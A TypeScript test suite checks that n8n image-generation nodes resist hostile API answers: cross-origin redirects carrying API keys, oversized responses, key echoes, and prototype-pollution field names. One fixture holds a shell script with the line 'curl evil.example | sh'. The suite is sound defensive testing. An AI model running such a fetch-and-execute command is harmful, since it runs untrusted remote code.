/**
 * Hostile API answers and hostile input, in n8n's engine with n8n's own HTTP helpers: redirects
 * that would carry the key elsewhere, oversized answers, provider text echoing the key, and
 * expression values of the wrong type. An attacker server on 127.0.0.1 records what reaches it.
 */
import type { INodeParameters } from 'n8n-workflow';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';

import type * as N8n from '../engine/harness/n8n';
import { REPO_ROOT } from '../engine/harness';
import {
	ADAPTERS,
	credentialsFor,
	NODES,
	runImage,
	SECRET,
	startFakes,
	stopFakes,
} from '../engine/setup';
import type { Fakes, NodeName } from '../engine/setup';
import { runNode } from '../engine/harness';
import { AttackTable } from './table';

const { reportedErrors } = require(path.join(REPO_ROOT, 'test/engine/harness/n8n')) as typeof N8n;
const table = new AttackTable('API answers and input values');
let fakes: Fakes;
let attacker: http.Server;
let attackerUrl = '';
const stolen: Array<{ path: string; headers: http.IncomingHttpHeaders }> = [];

beforeAll(async () => {
	fakes = await startFakes();
	attacker = http.createServer((req, res) => {
		stolen.push({ path: req.url ?? '', headers: req.headers });
		res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
	});
	await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
	attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(async () => {
	await stopFakes(fakes);
	await new Promise((resolve) => attacker.close(resolve));
	table.print();
});
beforeEach(() => {
	Object.values(fakes).forEach((f) => f.reset());
	stolen.length = 0;
});

const gen = (extra: INodeParameters = {}): INodeParameters => ({
	operation: 'generate',
	prompt: 'a fox',
	options: { pollIntervalSeconds: 1, output: 'url' },
	...extra,
});
const header = (node: NodeName) =>
	ADAPTERS[node].wireFormat === 'apiframe-v2' ? 'X-API-Key' : 'Authorization';

describe.each(NODES)('%s: the key never leaves the API origin', (node) => {
	it.each(['submit', 'poll'] as const)(
		'a 307 to another origin on %s is not followed',
		async (route) => {
			fakes[node].inject({
				route,
				status: 307,
				headers: { location: `${attackerUrl}/steal` },
				body: {},
				times: Infinity,
			});
			const result = await runImage(fakes, node, gen());
			expect(result.status).toBe('error');
			expect(result.error?.message).toMatch(
				/redirect to http:\/\/127\.0\.0\.1:\d+, which is not followed/,
			);
			expect(result.error?.description ?? '').not.toMatch(/may have created/);
			expect(stolen).toEqual([]);
			table.add(
				`${ADAPTERS[node].displayName}: the API answers 307 to another origin (${route}, ${header(node)})`,
				'the other origin received the key',
				'not followed; nothing reached the other origin',
			);
		},
	);
});

describe('redirects within the API origin', () => {
	it('a status read redirected within the same origin is followed', async () => {
		const fake = fakes.evoLink;
		const submitted = await runImage(fakes, 'evoLink', gen({ completion: 'submit' }));
		const taskId = String(submitted.output()[0].json.taskId);
		fake.inject({
			route: 'status',
			status: 307,
			headers: { location: `${fake.baseUrl}/v1/tasks/${taskId}` },
			body: {},
		});
		const waited = await runImage(fakes, 'evoLink', {
			operation: 'waitForTask',
			taskId,
			options: { output: 'url', pollIntervalSeconds: 1 },
		});
		expect(waited.status).toBe('success');
		table.add(
			'The API redirects a status read to its own origin',
			'followed',
			'followed (same origin, key kept)',
		);
	});

	it('a submission redirected, even within the origin, is not sent again', async () => {
		const fake = fakes.starMagic;
		fake.inject({
			route: 'submit',
			status: 308,
			headers: { location: `${fake.baseUrl}/v1/images/generations` },
			body: {},
		});
		const result = await runImage(fakes, 'starMagic', gen());
		expect(result.error?.message).toMatch(/which is not followed/);
		expect(fake.counts.submitRequests).toBe(1);
		table.add(
			'The API redirects a submission (308, same origin)',
			'followed by n8n',
			'not followed, not resent, nothing billed',
		);
	});
});

describe('answers are bounded', () => {
	it('a 40 MB status answer is refused after 2 MB', async () => {
		fakes.apiframe.inject({
			route: 'poll',
			mode: 'huge',
			hugeBytes: 40 * 1048576,
			times: Infinity,
		});
		const result = await runImage(
			fakes,
			'apiframe',
			gen({ options: { output: 'url', pollIntervalSeconds: 1, maxWaitSeconds: 3 } }),
		);
		expect(result.status).toBe('error');
		expect(result.error?.message).toMatch(/larger than 2 MB/);
		table.add('40 MB status answer', 'read whole: +93 MB RSS', 'refused after 2 MB');
	});

	it('a provider error that echoes the key shows no key anywhere', async () => {
		for (const node of NODES) {
			fakes[node].inject({
				route: 'submit',
				status: 401,
				body: { error: { message: `bad key ${SECRET[node]}` }, message: `bad key ${SECRET[node]}` },
			});
			const before = reportedErrors.length;
			const result = await runImage(fakes, node, gen());
			const text = JSON.stringify([
				result.error,
				reportedErrors.slice(before).map((r) => String(r.error)),
			]);
			expect(text).not.toContain(SECRET[node]);
			expect(`${result.error?.message}`).toMatch(/\*\*\*|HTTP 401|Invalid|key/);
		}
		table.add(
			'A provider 401 body that echoes the key',
			"the key landed in the message and n8n's error reporter",
			'masked as *** everywhere',
		);
	});

	it('a Base URL with another scheme is refused before anything is sent', async () => {
		const credentials = credentialsFor(fakes);
		credentials.evoLinkApi = { ...credentials.evoLinkApi, baseUrl: 'file:///etc' };
		const { runNode } = await import('../engine/harness');
		const result = await runNode('evoLink', { resource: 'image', ...gen() }, { credentials });
		expect(result.error?.message).toMatch(/Base URL "file:\/\/\/etc" is not an http\(s\) address/);
		expect(result.error?.description).toMatch(/Nothing was sent/);
		expect(result.error?.description ?? '').not.toMatch(/may have created/);
		table.add(
			'A request refused before sending (file: Base URL)',
			'reported as "may have created (and billed)", retried 5 times',
			'not sent, not retried',
		);
	});
});

const BAD_VALUES: Array<[string, INodeParameters, RegExp, string]> = [
	[
		'Prompt expression yielding an object',
		{ prompt: '={{ { a: 1 } }}' },
		/^Prompt is an object \(from the expression \{\{ \{ a: 1 \} \}\}\), not text$/,
		'sent as "[object Object]" and billed',
	],
	[
		'Prompt expression yielding null',
		{ prompt: '={{ null }}' },
		/^Prompt is empty: the expression \{\{ null \}\} gave nothing$/,
		'sent as "null" and billed',
	],
	[
		'Prompt expression yielding an array',
		{ prompt: '={{ ["a", "b"] }}' },
		/^Prompt is a list \(from the expression .*\), not text$/,
		'sent as "a,b" and billed',
	],
	[
		'Number of Images = true',
		{ numberOfImages: '={{ true }}' },
		/^Number of Images is a boolean \(from the expression \{\{ true \}\}\), not a whole number/,
		'accepted',
	],
	[
		'Number of Images = [3]',
		{ numberOfImages: '={{ [3] }}' },
		/^Number of Images is a list \(from the expression \{\{ \[3\] \}\}\), not a whole number/,
		'accepted',
	],
	[
		'Number of Images = "0x3"',
		{ numberOfImages: '={{ "0x3" }}' },
		/^Number of Images is "0x3" \(from the expression .*\), not a whole number/,
		'accepted',
	],
	[
		'Put Output Images in Field = __proto__',
		{ options: { binaryPropertyName: '__proto__' } },
		/^Put Output Images in Field: "__proto__" cannot be used/,
		'the image went nowhere',
	],
];

describe('values have types', () => {
	it.each(BAD_VALUES)(
		'%s is refused by field name, with zero requests',
		async (name, parameters, message, before) => {
			const result = await runImage(fakes, 'evoLink', gen(parameters));
			expect(result.error?.message).toMatch(message);
			expect(fakes.evoLink.counts.total).toBe(0);
			table.add(name, before, 'refused by field name, 0 requests');
		},
	);

	it('a shell script labelled image/png is not uploaded', async () => {
		const script = {
			buffer: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
			mimeType: 'image/png',
			fileName: 'photo.png',
		};
		const result = await runImage(
			fakes,
			'evoLink',
			{ operation: 'edit', prompt: 'x', binaryFields: 'data' },
			{ items: [{ json: {}, binary: { data: script } }] },
		);
		expect(result.error?.message).toMatch(
			/^Input Binary Fields: "data" is labelled image\/png but its content is not an image/,
		);
		expect(fakes.evoLink.counts.total).toBe(0);
		table.add(
			'A shell script in a binary field labelled image/png',
			'uploaded to the provider',
			'refused by its bytes, 0 requests',
		);
	});

	it('__proto__ as an input binary field name is refused', async () => {
		const result = await runImage(fakes, 'apiframe', {
			operation: 'edit',
			prompt: 'x',
			binaryFields: '__proto__',
		});
		expect(result.error?.message).toMatch(/^Input Binary Fields: "__proto__" cannot be used/);
		table.add(
			'Input Binary Fields = __proto__',
			'read from the prototype',
			'refused by field name',
		);
	});
});

describe('provider text is masked where it enters', () => {
	/** Where a key shows up in a run: its error, n8n's error reporter, its output items. */
	function whereShown(result: Awaited<ReturnType<typeof runNode>>, key: string, since: number) {
		const places: string[] = [];
		if (`${result.error?.message ?? ''}`.includes(key)) places.push('the error message');
		if (`${result.error?.description ?? ''}`.includes(key)) places.push('its description');
		if (JSON.stringify(result.error ?? {}).includes(key) && places.length === 0)
			places.push('the error');
		const items = result.status === 'success' ? JSON.stringify(result.output()) : '';
		if (items.includes(key)) places.push('the output items');
		if (reportedErrors.slice(since).some((r) => JSON.stringify(r).includes(key)))
			places.push("n8n's error reporter");
		return places;
	}

	const failedBody = (node: NodeName, key: string) =>
		ADAPTERS[node].wireFormat === 'apiframe-v2'
			? {
					id: 'a1b2c3d4-e5f6-7890-abcd-ef1234567890',
					status: 'FAILED',
					error: `the key ${key} may not use this model`,
				}
			: {
					id: 'task-unified-1757156493-failkey1',
					status: 'failed',
					error: { code: `denied:${key}`, message: `the key ${key} may not use this model` },
				};

	it.each(NODES)('%s: a failed task whose error repeats the key shows no key', async (node) => {
		fakes[node].inject({
			route: 'status',
			status: 200,
			body: failedBody(node, SECRET[node]),
			times: Infinity,
		});
		const since = reportedErrors.length;
		const result = await runNode(
			node,
			{ resource: 'image', ...gen() },
			{ credentials: credentialsFor(fakes) },
		);
		const places = whereShown(result, SECRET[node], since);
		table.add(
			`${ADAPTERS[node].displayName}: a failed task's error echoes the API key`,
			ADAPTERS[node].wireFormat === 'apiframe-v2'
				? "the key in the error message and n8n's error reporter"
				: "the key in the error message, its description (code) and n8n's error reporter",
			places.length > 0 ? `the key in ${places.join(', ')}` : 'masked as *** everywhere',
		);
		expect(result.error?.message).toMatch(/failed: the key \*\*\* may not use this model/);
		expect(places).toEqual([]);
	});

	const unifiedNodes = NODES.filter((n) => ADAPTERS[n].wireFormat === 'unified-task');
	it.each(unifiedNodes)(
		'%s: a submit answer whose usage repeats the key shows no key in providerData',
		async (node) => {
			const key = SECRET[node];
			fakes[node].inject({
				route: 'submit',
				status: 200,
				body: {
					id: 'task-unified-1757156493-usagekey',
					status: 'pending',
					usage: { billing_rule: `per request, key ${key}`, credits_reserved: 2, [key]: 1 },
				},
			});
			const since = reportedErrors.length;
			const result = await runNode(
				node,
				{ resource: 'image', ...gen({ completion: 'submit' }) },
				{ credentials: credentialsFor(fakes) },
			);
			const places = whereShown(result, key, since);
			table.add(
				`${ADAPTERS[node].displayName}: a submit answer's usage echoes the API key`,
				'the key in providerData.usage of the output items',
				places.length > 0 ? `the key in ${places.join(', ')}` : 'masked as *** in providerData',
			);
			expect(result.status).toBe('success');
			const usage = (result.output()[0].json.providerData as { usage: Record<string, unknown> })
				.usage;
			expect(usage.billing_rule).toBe('per request, key ***');
			expect(usage.credits_reserved).toBe(2);
			expect(places).toEqual([]);
		},
	);
});
